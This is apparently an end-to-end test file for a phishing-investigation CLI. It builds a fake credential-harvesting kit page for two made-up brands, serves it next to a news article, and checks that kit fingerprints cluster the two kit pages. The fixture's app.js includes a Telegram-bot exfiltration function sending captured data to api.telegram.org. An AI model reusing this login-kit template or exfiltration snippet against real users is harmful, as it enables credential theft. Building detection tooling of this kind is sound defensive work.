// Kit fingerprints end to end: one phishing kit served under two hosts with different brand text,
// and an unrelated article, crawled by the real CLI in Chromium into a real SQLite file. `similar`
// finds each kit page from the other (and from the kit's markup given as a file), never the
// article; `cluster` makes one family of the two; an old trace without fingerprints gains them by
// `classify`, without a re-crawl.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hoptrace, LOOPBACK } from '../fixtures/cli.ts';
import { startFixtureServer, type FixtureServer } from '../fixtures/server.ts';

const BOT = '7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e';
const SITEKEY = '6LcQx2EpAAAAAJ7w1Gk3yYbZr5mN8vT0aUe4sPqH';

function kit(brand: string, headline: string): string {
  const fields = ['email', 'password']
    .map((f) => `<div class="row"><label for="${f}">${brand} ${f}</label><input id="${f}" name="${f}" type="${f}"></div>`)
    .join('');
  return `<!doctype html><html><head><meta charset="utf-8"><title>${brand} - Sign in</title>
<link rel="icon" href="/kit/favicon.ico"><link rel="stylesheet" href="/kit/style.css"></head>
<body><header><img src="/kit/logo.png" alt="${brand}"><nav><ul><li><a href="#">Help</a></li><li><a href="#">Privacy</a></li></ul></nav></header>
<main><h1>${headline}</h1><p>Verify your ${brand} account to keep using ${brand} services.</p>
<form action="/next.php" method="post">${fields}<div class="g-recaptcha" data-sitekey="${SITEKEY}"></div><button type="submit">Continue</button></form></main>
<footer><p>© ${brand} Inc.</p><p><a href="#">Terms</a> · <a href="#">Cookies</a></p></footer><script src="/kit/app.js"></script></body></html>`;
}

const ARTICLE = `<!doctype html><html><head><title>Harbour festival returns</title><link rel="stylesheet" href="/site.css"></head>
<body><article><h2>Harbour festival returns after three years</h2>${Array.from({ length: 12 }, (_, i) => `<p>Paragraph ${i} of the town's news about boats, music and food stalls along the quay.</p>`).join('')}
<aside><table><tr><td>Saturday</td><td>Parade</td></tr><tr><td>Sunday</td><td>Fireworks</td></tr></table></aside></article></body></html>`;

let server: FixtureServer;
const dir = mkdtempSync(join(tmpdir(), 'hoptrace-fp-'));
const db = join(dir, 'fp.sqlite');
let kitA: string;
let kitB: string;
let article: string;

type Similar = { target: string; matches: { visitId: string; url: string; score: number; by: string[] }[] };
async function similar(...args: string[]): Promise<Similar> {
  const r = await hoptrace(['similar', ...args, '--db', db, '--json']);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as Similar;
}

beforeAll(async () => {
  server = await startFixtureServer();
  for (const host of ['login.alpha-bank.test', 'secure.beta-mail.test']) {
    server.route(host, '/kit/style.css', (_q, res) => {
      res.writeHead(200, { 'content-type': 'text/css' });
      res.end('body{font-family:sans-serif;margin:0}.row{padding:8px}header{background:#0a3d91}h1{font-size:22px}');
    });
    server.route(host, '/kit/app.js', (_q, res) => {
      res.writeHead(200, { 'content-type': 'application/javascript' });
      res.end(`var t='${BOT}';var chat_id='-1001987654321';function send(d){fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id='+chat_id+'&text='+d)}`);
    });
    for (const [path, bytes] of [['/kit/logo.png', 'logo-bytes-of-the-kit'], ['/kit/favicon.ico', 'icon-bytes-of-the-kit']] as const) {
      server.route(host, path, (_q, res) => {
        res.writeHead(200, { 'content-type': path.endsWith('png') ? 'image/png' : 'image/x-icon' });
        res.end(Buffer.from(bytes));
      });
    }
  }
  server.page('login.alpha-bank.test', '/', kit('Alpha Bank', 'Sign in to Alpha Bank online'));
  server.page('secure.beta-mail.test', '/', kit('BetaMail', 'Your BetaMail mailbox is almost full'));
  server.page('news.harbour-town.test', '/', ARTICLE);
  server.route('news.harbour-town.test', '/site.css', (_q, res) => {
    res.writeHead(200, { 'content-type': 'text/css' });
    res.end('article{max-width:40em}');
  });
  [kitA, kitB, article] = [server.url('login.alpha-bank.test', '/'), server.url('secure.beta-mail.test', '/'), server.url('news.harbour-town.test', '/')];
  const r = await hoptrace(['crawl', kitA, kitB, article, ...LOOPBACK, '--db', db, '--job', 'kits']);
  expect(r.code, r.stderr).toBe(0);
}, 240_000);

afterAll(async () => {
  await server?.close();
});

describe('hoptrace similar', () => {
  it('finds the same kit under another host with other brand text, from either side, and not the unrelated page', async () => {
    const fromA = await similar(kitA);
    const fromB = await similar(kitB);
    expect(fromA.matches.map((m) => m.url)).toEqual([kitB]);
    expect(fromB.matches.map((m) => m.url)).toEqual([kitA]);
    for (const m of [...fromA.matches, ...fromB.matches]) {
      expect(m.score).toBeGreaterThan(0.9);
      // Same skeleton, same kit files, same operator; the bodies differ (and on pages this small the
      // brand text alone puts TLSH past its near range).
      expect(m.by).toEqual(expect.arrayContaining(['domhash', 'sitekeys', 'telegram', 'resources', 'favicon']));
      expect(m.by).not.toContain('sha256');
    }
    // From the unrelated page nothing comes back at the default score, though it shares the server.
    expect((await similar(article)).matches).toEqual([]);
    expect((await similar(article, '--min-score', '0')).matches.map((m) => m.by)).toEqual([['hhhash'], ['hhhash']]);
  }, 60_000);

  it('takes a visit id, a file, and --by', async () => {
    const fromA = await similar(kitA);
    const byId = await similar(fromA.matches[0]!.visitId);
    expect(byId.matches.map((m) => m.url)).toEqual([kitA]);
    const file = join(dir, 'saved-kit.html');
    writeFileSync(file, kit('Gamma Pay', 'Gamma Pay needs to confirm your card'));
    const fromFile = await similar(file);
    expect(fromFile.matches.map((m) => m.url).sort()).toEqual([kitA, kitB].sort());
    expect(fromFile.matches[0]!.by).toContain('domhash');
    const onlyTelegram = await similar(kitA, '--by', 'telegram');
    expect(onlyTelegram.matches.map((m) => m.by)).toEqual([['telegram']]);
  }, 60_000);

  it('refuses bad input with one line and exit 2', async () => {
    for (const args of [['no-such-visit'], [kitA, '--by', 'colour'], [kitA, '--min-score', '2'], ['http://never.crawled.test/']]) {
      const r = await hoptrace(['similar', ...args, '--db', db]);
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    }
  });
});

describe('hoptrace cluster', () => {
  it('puts the two kit pages in one family named by their shared evidence, the article in none', async () => {
    const r = await hoptrace(['cluster', '--db', db, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const { families } = JSON.parse(r.stdout) as { families: { id: string; label: string; evidence: { fingerprint: string }[]; visits: string[] }[] };
    expect(families).toHaveLength(1);
    const ids = (await similar(kitA)).matches.map((m) => m.visitId);
    expect(families[0]!.visits).toHaveLength(2);
    expect(families[0]!.visits).toEqual(expect.arrayContaining(ids));
    expect(families[0]!.evidence.map((e) => e.fingerprint)).toEqual(expect.arrayContaining(['domhash', 'sitekeys', 'telegram']));
    expect(families[0]!.label).toMatch(/^telegram /);
    // The bot's id names it; its secret stays out of shared output.
    expect(r.stdout).toContain('7012345678:[redacted]');
    expect(r.stdout).not.toContain(BOT.split(':')[1]);
    const csv = await hoptrace(['cluster', '--db', db, '--csv']);
    expect(csv.code, csv.stderr).toBe(0);
    const lines = csv.stdout.trim().split('\n');
    expect(lines[0]).toBe('family,label,visit,evidence');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual([families[0]!.id, families[0]!.id]);
    expect(lines.slice(1).every((l) => families[0]!.visits.some((v) => l.includes(v)) && l.includes('domhash='))).toBe(true);
  });
});

describe('old traces', () => {
  it('gain fingerprints from classify, without a re-crawl', async () => {
    const old = join(dir, 'old.sqlite');
    const src = new Database(db, { readonly: true });
    await src.backup(old);
    src.close();
    // What a trace written before fingerprints looks like: no index rows, no `fingerprints` on pages.
    const w = new Database(old);
    w.exec('DELETE FROM fingerprints');
    for (const row of w.prepare('SELECT id, branch_finals FROM visits').all() as { id: string; branch_finals: string }[]) {
      const pages = (JSON.parse(row.branch_finals) as Record<string, unknown>[]).map(({ fingerprints: _f, ...p }) => p);
      w.prepare('UPDATE visits SET branch_finals = ? WHERE id = ?').run(JSON.stringify(pages), row.id);
    }
    w.close();
    const before = await hoptrace(['similar', kitA, '--db', old]);
    expect(before.code).toBe(2);
    expect(before.stderr).toMatch(/no fingerprints.*classify/);
    const hits = server.hits.length;
    const c = await hoptrace(['classify', 'kits', '--db', old, '--json']);
    expect(c.code, c.stderr).toBe(0);
    expect(JSON.parse(c.stdout).fingerprinted).toBe(3);
    expect(server.hits.length).toBe(hits);
    const after = await hoptrace(['similar', kitA, '--db', old, '--json']);
    expect(after.code, after.stderr).toBe(0);
    expect((JSON.parse(after.stdout) as Similar).matches.map((m) => m.url)).toEqual([kitB]);
    const exported = JSON.parse((await hoptrace(['export', '--db', old, '--format', 'json'])).stdout) as { visits: { url: string; branchFinals: { fingerprints?: { domhash: string | null } }[] }[] };
    const domhashes = exported.visits.filter((v) => v.url !== article).map((v) => v.branchFinals[0]!.fingerprints?.domhash);
    expect(domhashes[0]).toMatch(/^[0-9a-f]{64}$/);
    expect(domhashes[0]).toBe(domhashes[1]);
  }, 60_000);
});
